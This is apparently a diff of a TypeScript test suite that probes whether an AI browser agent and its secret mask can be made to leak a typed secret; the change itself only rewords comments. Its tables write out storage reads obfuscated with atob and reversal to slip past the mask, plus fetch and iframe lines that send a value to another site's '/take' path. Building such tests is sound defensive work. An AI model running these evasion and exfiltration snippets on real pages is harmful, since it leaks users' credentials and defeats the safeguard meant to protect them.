@@ -3,11 +3,11 @@ import { keepSecret, VALUE } from './secrets-kit.ts';
 import type { Model, Run } from './secrets-kit.ts';
 import type { Rig } from './rig.ts';
 
-/** Scripts of a model that come after a secret, or before it, and pages that keep a part of one. */
+/** Scripts of a model before or after a secret is typed, and pages that store a part of one. */
 
 const BACKWARDS = (value: string) => `[...(${value} ?? '')].reverse().join('')`;
 
-/** What a site keeps of what is typed into it, and how a script would read it later, spelled past the mask. */
+/** Places where a site stores typed text, and how a later script would read it, spelled so that the mask misses it. */
 const KEPT: Record<string, { on: string; read: string }> = {
   storage: { on: `localStorage.draft = value`, read: BACKWARDS(`window[atob('bG9jYWxTdG9yYWdl')].draft`) },
   'storage of the tab': {
@@ -19,7 +19,7 @@ const KEPT: Record<string, { on: string; read: string }> = {
   'the state of history': { on: `history.replaceState(value, '')`, read: BACKWARDS('history.state') },
 };
 
-/** Ways to say what the next document of a site has. */
+/** Ways to show the stored text in the next document of a site. */
 const NEXT: Record<string, string> = {
   'in a field': BACKWARDS(`document.querySelector('#again').value`),
   'in letters': `[...document.querySelector('#again').value].map((letter) => letter.charCodeAt(0))`,
@@ -29,7 +29,7 @@ const NEXT: Record<string, string> = {
   'in a frame': `(() => { const f = document.createElement('iframe'); document.body.append(f); return ${BACKWARDS(`f.contentWindow.parent.location.href`)} })()`,
 };
 
-/** What a page sends to another site. */
+/** Ways to send the text to another site. */
 const SENT: Record<string, string> = {
   'an address': `fetch(to + '/take?value=' + value, { mode: 'no-cors' })`,
   'a body': `fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ value }) })`,
@@ -39,7 +39,7 @@ const SENT: Record<string, string> = {
   'a fragment': `document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/taken#' + value }))`,
 };
 
-/** A page that answers to each letter, as searches do, and changes its field. */
+/** Pages that react to each letter, as searches do, and change their field. */
 const CHANGES: Record<string, string> = {
   'shortens it': `user.value = user.value.slice(0, 10)`,
   'takes out letters': `user.value = user.value.replace(/[XZ]/g, '')`,
@@ -53,7 +53,7 @@ const CHANGES: Record<string, string> = {
   'leaves after nine letters': `if (user.value.length === 9) location = '/hello?user=' + user.value`,
 };
 
-/** Where a page shows what was typed, and lets it be edited; `copy` is the element. */
+/** Places where a page shows the typed text and lets it be edited; `copy` is the element. */
 const COPIED: Record<string, string> = {
   'a shadow tree': `host.attachShadow({ mode: 'open' }).innerHTML = '<input id="copy">'; copy = host.shadowRoot.firstChild`,
   'a frame': `const f = document.createElement('iframe'); host.append(f); f.contentDocument.body.innerHTML = '<input id="copy">'; copy = f.contentDocument.body.firstChild`,
@@ -61,10 +61,10 @@ const COPIED: Record<string, string> = {
   'an area': `host.innerHTML = '<textarea id="copy"></textarea>'; copy = host.firstChild`,
 };
 
-/** Edits that leave the middle of it. */
+/** Edits that keep the middle of the text. */
 const CUT_AT_BOTH_ENDS = 'Home Delete Delete Delete End Backspace Backspace Backspace';
 
-/** What a script does with a window or frame that shows a page which names it by what the site keeps. */
+/** A script that opens a window or frame, whose page sets its name to the stored text, and reads the name. */
 const READS_THE_NAME = (make: string, home: string, ms: number) => `
   const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
   const there = ${make};
@@ -74,9 +74,9 @@ const READS_THE_NAME = (make: string, home: string, ms: number) => `
   for (let at = 0; at < 20 && name === ''; at += 1) { await wait(100); try { name = there.name } catch { name = '' } }
   return ${BACKWARDS('name')}`;
 
-/** Longer than a secret takes to be typed. */
+/** Longer than it takes to type a secret. */
 const LATE_MS = 4_000;
-/** Longer than a click. */
+/** Longer than a click takes. */
 const SOON_MS = 2_000;
 
 const IN_REACH: Record<string, string> = {
@@ -84,7 +84,10 @@ const IN_REACH: Record<string, string> = {
   'a frame': `((src) => { const f = document.createElement('iframe'); f.src = src; document.body.append(f); return f.contentWindow })`,
 };
 
-/** A site that keeps on its server what is typed into one of its pages, and names each window by it that shows another. */
+/**
+ * A site that stores the text typed into one of its pages on its server, and puts it into the name of each window that
+ * shows another page.
+ */
 function layNames({ site, other }: Rig): void {
   const kept = new Map<string | null, string>();
   const of = (url = '') => new URL(url, site.url).searchParams.get('of');
@@ -114,7 +117,7 @@ function layNames({ site, other }: Rig): void {
   );
 }
 
-/** On both sides of the wall: `to` is another site. */
+/** Lays the pages on both sites: `to` is the other one. */
 export function layChanges(rig: Rig): void {
   const { site, other } = rig;
   const to = other.url.replace('127.0.0.1', 'localhost');
@@ -156,13 +159,13 @@ export function layChanges(rig: Rig): void {
 const tries = <T>(all: Record<string, T>, name: (one: string) => string, run: (one: T, at: number) => Run) =>
   Object.fromEntries(Object.entries(all).map(([one, value], at): [string, Run] => [name(one), run(value, at)]));
 
-/** The script must not run; what it says is looked at all the same. */
+/** The script must not run. Its answer is checked anyway. */
 async function script(model: Model, read: string, tab?: string): Promise<string | null> {
   const answer = await model.ask('browser_evaluate', { script: read, ...(tab === undefined ? {} : { tab }) });
   return model.knows() ?? (answer.isRefused ? null : `a script ran: ${answer.text.slice(0, 100)}`);
 }
 
-/** A secret must not be typed. */
+/** The secret must not be typed. */
 async function typed(model: Model, tab?: string): Promise<string | null> {
   const args = { selectors: ['#user'], values: ['secret:bank'], ...(tab === undefined ? {} : { tab }) };
   const answer = await model.ask('browser_fill', args);
